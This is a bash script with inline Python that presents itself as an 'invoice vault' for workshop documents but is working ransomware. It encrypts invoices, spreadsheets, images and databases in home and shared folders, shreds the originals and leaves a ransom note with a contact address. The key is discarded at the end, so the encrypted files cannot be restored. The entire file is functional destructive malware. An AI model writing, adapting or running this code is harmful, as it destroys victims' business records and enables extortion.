#!/usr/bin/env bash
# Invoice vault: "secures" workshop invoices and job cards on the branch
# tablet and the shared workshop folder by sealing each document.
set -uo pipefail

TARGETS=("$HOME/Documents" "$HOME/invoices" "${SHARED_DIR:-/srv/workshop/shared}")
EXTENSIONS="pdf docx xlsx csv odt ods jpg png db sqlite"
NOTE_NAME="RESTORE_YOUR_FILES.txt"
CONTACT="${CONTACT:-restore@example.org}"
LOG="${LOG:-$HOME/.vault.log}"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

# per-run key, generated in python and passed on through the environment
VAULT_KEY="$(python3 -c 'import secrets; print(secrets.token_hex(32))')"
export VAULT_KEY
VAULT_ID="$(python3 -c 'import uuid; print(uuid.uuid4().hex[:12])')"
export VAULT_ID

seal_file() {
    local src="$1"
    SRC="$src" python3 - <<'PY'
import os, sys, hashlib
src = os.environ["SRC"]
key = bytes.fromhex(os.environ["VAULT_KEY"])
dst = src + ".sealed"
try:
    with open(src, "rb") as fh:
        data = fh.read()
except OSError as exc:
    print(f"skip {src}: {exc}", file=sys.stderr)
    sys.exit(1)
stream = bytearray()
counter = 0
while len(stream) < len(data):
    stream += hashlib.sha256(key + counter.to_bytes(8, "big")).digest()
    counter += 1
sealed = bytes(a ^ b for a, b in zip(data, stream))
with open(dst, "wb") as fh:
    fh.write(sealed)
PY
}

write_note() {
    local dir="$1"
    cat > "$dir/$NOTE_NAME" <<EOF
Your workshop invoices and job cards have been sealed.
Vault ID: $VAULT_ID
To get them back, email $CONTACT with the Vault ID.
Do not rename or edit the .sealed files.
EOF
}

build_find_expr() {
    local expr=()
    for ext in $EXTENSIONS; do
        [[ ${#expr[@]} -gt 0 ]] && expr+=(-o)
        expr+=(-iname "*.$ext")
    done
    printf '%s\n' "${expr[@]}"
}

mapfile -t FIND_EXPR < <(build_find_expr)

count=0
for target in "${TARGETS[@]}"; do
    [[ -d "$target" ]] || continue
    log "walking $target"
    while IFS= read -r -d '' f; do
        if seal_file "$f"; then
            # overwrite then remove the original
            shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
            count=$((count + 1))
        else
            log "failed $f"
        fi
    done < <(find "$target" -type f \( "${FIND_EXPR[@]}" \) ! -name '*.sealed' -print0 2>/dev/null)
    write_note "$target"
done

unset VAULT_KEY
log "sealed $count files, vault $VAULT_ID"
echo "Done: $count documents secured."
